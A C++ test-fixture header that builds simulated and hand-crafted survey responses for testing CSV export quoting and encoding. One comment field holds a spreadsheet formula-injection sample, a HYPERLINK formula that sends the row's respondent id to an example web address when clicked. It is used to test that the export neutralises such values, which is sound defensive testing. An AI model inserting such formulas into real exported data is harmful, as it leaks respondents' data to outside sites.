#pragma once

// Study content for the export tests: simulated experts (anonymous: no name, no affiliation) plus
// one hand-made respondent who gave a name and an affiliation, and whose comments, affiliation and
// source file name hold everything CSV quoting must survive, and comments a spreadsheet would take
// for a formula (HyperlinkComment) or that LibreOffice garbles when it guesses the encoding.

#include "models/instrument/instrument.h"
#include "models/simulate/simulate.h"
#include "models/storage/studystore.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QList>

namespace exporttest {

using namespace Qt::StringLiterals;

// A formula that, evaluated, sends the respondent id in its row to a web site when clicked.
inline const QString HyperlinkComment = u"=HYPERLINK(\"https://example.org/?id=\"&A2,\"details\")"_s;
// Non-ASCII text of several scripts, with typographic quotes and a dash.
inline const QString NonAsciiComment = u"Größere Sorgfalt – “quotes” 日本"_s;

inline panelist::ResponseData trickyResponse(const panelist::Instrument &ins)
{
    panelist::ResponseData r;
    r.instrumentFingerprint = ins.fingerprint();
    r.respondentId = QUuid(u"00000000-0000-4000-8000-00000000abcd"_s);
    r.revision = 3;
    r.createdAt = QDateTime(QDate(2026, 3, 1), QTime(8, 0), Qt::UTC);
    r.submittedAt = QDateTime(QDate(2026, 3, 1), QTime(9, 30, 15), Qt::UTC);
    r.expertise = { ins.expertiseGroups().at(1).id, ins.expertiseGroups().at(0).id };
    r.name = u"Zoë O'Brien-Ngata"_s;
    r.affiliation = u"Institute of \"Examples\", Zürich"_s;
    const QString m0 = ins.measures().at(0).id;
    const QString m1 = ins.measures().at(1).id;
    const QString m2 = ins.measures().at(2).id;
    const QString m3 = ins.measures().at(3).id;
    const QString a0 = ins.areas().at(0).id;
    const QString a1 = ins.areas().at(1).id;
    r.effectiveness[m0][a0] = panelist::Rating::of(5);
    r.effectiveness[m0][a1] = panelist::Rating::unknown();
    r.effectiveness[m1][a0] = panelist::Rating::of(1);
    r.feasibility[m0] = panelist::Rating::unknown();
    r.feasibility[m1] = panelist::Rating::of(3);
    r.comments[m0] = u"Comma, then \"quotes\", then ''single'' ones"_s;
    r.comments[m1] = u"Line one\r\nline two\nline three\rend"_s;
    r.comments[m2] = u"Zürich — 東京 👍 ,\"\n"_s;
    r.comments[m3] = u"  leading and trailing spaces  "_s;
    r.comments[ins.measures().at(4).id] = HyperlinkComment;
    r.comments[ins.measures().at(5).id] = u"-5 is too low; +1 for the rest"_s;
    r.comments[ins.measures().at(6).id] = NonAsciiComment;
    r.comments[ins.measures().at(7).id] = u"'Quoted' from the draft"_s;
    r.combinations[a0] = { m1, m0 };
    return r;
}

// count simulated experts (seed 7) plus trickyResponse(), in an order that is not the export order.
inline QList<panelist::StudyResponse> studyResponses(const panelist::Instrument &ins, int count = 25)
{
    QList<panelist::StudyResponse> out;
    const QList<panelist::ResponseData> sim = panelist::simulateResponses(ins, count, 7);
    for (qsizetype i = 0; i < sim.size(); ++i) {
        panelist::StudyResponse s;
        s.versionId = i + 1;
        s.data = sim.at(i);
        s.sourceName = panelist::simulatedFileName(int(i), count);
        s.importedAt = QDateTime(QDate(2026, 4, 1), QTime(10, 0), Qt::UTC).addSecs(i);
        s.counts = true;
        out.append(s);
    }
    panelist::StudyResponse t;
    t.versionId = 1000;
    t.data = trickyResponse(ins);
    t.sourceName = u"from \"Ana\", via USB.panelist-response"_s;
    t.importedAt = QDateTime(QDate(2026, 4, 2), QTime(11, 12, 13), Qt::UTC);
    t.counts = true;
    out.insert(out.size() / 2, t);
    return out;
}

// The bundled instrument cut to its first eight measures: its wide table (90 columns) and long
// table fit within what readWorkbook reads (models/workbook/workbooklimits.h), and
// trickyResponse() still has a measure for each of its comments.
inline panelist::Instrument smallInstrument()
{
    QFile f(panelist::Instrument::bundledPath());
    if (!f.open(QIODevice::ReadOnly))
        return {};
    QJsonObject doc = QJsonDocument::fromJson(f.readAll()).object();
    QJsonArray measures = doc[u"measures"_s].toArray();
    while (measures.size() > 8)
        measures.removeLast();
    doc[u"measures"_s] = measures;
    return *panelist::Instrument::fromJson(QJsonDocument(doc).toJson(), u"small.json"_s);
}

// Strips the apostrophe that the CSV exports put before a text a spreadsheet could take for a
// formula, as docs/exports.md tells a reader to: one leading apostrophe, when there is one.
inline QString unguarded(const QString &field)
{
    return field.startsWith(u'\'') ? field.mid(1) : field;
}

} // namespace exporttest
